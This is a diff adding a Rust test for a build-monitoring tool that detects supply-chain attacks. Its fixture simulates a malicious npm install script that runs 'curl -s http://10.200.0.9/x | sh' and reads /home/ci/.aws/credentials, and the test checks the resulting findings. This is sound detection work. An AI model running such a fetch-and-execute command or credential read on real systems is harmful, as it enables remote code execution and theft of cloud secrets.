@@ -127,11 +127,17 @@ fn fired(dir: &TempDir, name: &str, events: &[Value], args: &[String]) -> BTreeS
     let r: Value = serde_json::from_slice(&fs::read(&report).unwrap()).unwrap();
     let runs = events.iter().filter(|e| e.get("run").is_some()).count();
     assert_eq!(r["events"]["total"], json!(events.len() - runs), "{name}");
+    // A rule that matched as a part of another's finding (same event, or the same action)
+    // fired too.
     r["findings"]
         .as_array()
         .unwrap()
         .iter()
-        .map(|f| f["rule"].as_str().unwrap().to_owned())
+        .flat_map(|f| {
+            let parts = f["parts"].as_array().cloned().unwrap_or_default();
+            std::iter::once(f["rule"].clone()).chain(parts.into_iter().map(|p| p["rule"].clone()))
+        })
+        .map(|r| r.as_str().unwrap().to_owned())
         .collect()
 }
 
@@ -195,6 +201,73 @@ fn every_default_rule_has_both_kinds_of_fixture() {
             "rule {name} needs fixtures that fire and fixtures that do not"
         );
     }
+}
+
+/// One action, one finding: `sh -c "curl … | sh"` from an install script is one critical
+/// finding; the curl it starts and curl's connection to an unlisted, unresolved address are
+/// its parts, and so is the shell-spawn rule that matched the same exec. What the downloaded script then does to a
+/// credential is a finding of its own.
+#[test]
+fn one_curl_pipe_sh_is_one_finding_with_its_parts() {
+    let dir = TempDir::new("action");
+    let events = [
+        json!({"pid": 10, "ppid": 1, "exec": {"path": "/usr/bin/node",
+            "argv": ["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "install"], "cwd": "/w"}}),
+        json!({"pid": 11, "ppid": 10, "exec": {"path": "/usr/bin/sh",
+            "argv": ["sh", "-c", "node install.js"], "cwd": "/w/node_modules/evil",
+            "package": {"manager": "npm", "name": "evil", "version": "1.0.1"}}}),
+        json!({"pid": 12, "ppid": 11, "exec": {"path": "/usr/bin/node",
+            "argv": ["node", "install.js"], "cwd": "/w/node_modules/evil"}}),
+        json!({"pid": 13, "ppid": 12, "exec": {"path": "/usr/bin/sh",
+            "argv": ["sh", "-c", "curl -s http://10.200.0.9/x | sh"], "cwd": "/w/node_modules/evil"}}),
+        json!({"pid": 14, "ppid": 13, "exec": {"path": "/usr/bin/curl",
+            "argv": ["curl", "-s", "http://10.200.0.9/x"], "cwd": "/w/node_modules/evil"}}),
+        json!({"pid": 14, "connect": {"family": "inet", "address": "10.200.0.9", "port": 80}}),
+        json!({"pid": 15, "ppid": 13, "exec": {"path": "/usr/bin/sh", "argv": ["sh"],
+            "cwd": "/w/node_modules/evil"}}),
+        json!({"pid": 15, "open": {"path": "/home/ci/.aws/credentials", "flags": ["read"]}}),
+    ];
+    let mut stream: Vec<String> = events
+        .iter()
+        .enumerate()
+        .map(|(i, e)| complete(e.clone(), i + 1).to_string())
+        .collect();
+    stream.push(run_end(events.len() + 1).to_string());
+    fs::write(dir.join("e.jsonl"), stream.join("\n") + "\n").unwrap();
+    let out = Command::new(buildwatch_bin())
+        .current_dir(dir.path())
+        .args(["replay", "e.jsonl", "--report", "r.json"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(86));
+    let r: Value = serde_json::from_slice(&fs::read(dir.join("r.json")).unwrap()).unwrap();
+    let findings = r["findings"].as_array().unwrap();
+    let rules: Vec<&str> = findings
+        .iter()
+        .map(|f| f["rule"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        rules,
+        ["download-piped-to-shell", "sensitive-file-read"],
+        "{r:#}"
+    );
+    let parts: BTreeSet<&str> = findings[0]["parts"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|p| p["rule"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        parts,
+        BTreeSet::from([
+            "interpreter-spawns-shell",
+            "network-tool-in-install-script",
+            "egress-unlisted",
+            "egress-unresolved-address",
+        ]),
+        "{:#}",
+        findings[0]
+    );
 }
 
 /// docs/rules.md has a heading for every default rule (SARIF's helpUri points at it) and none
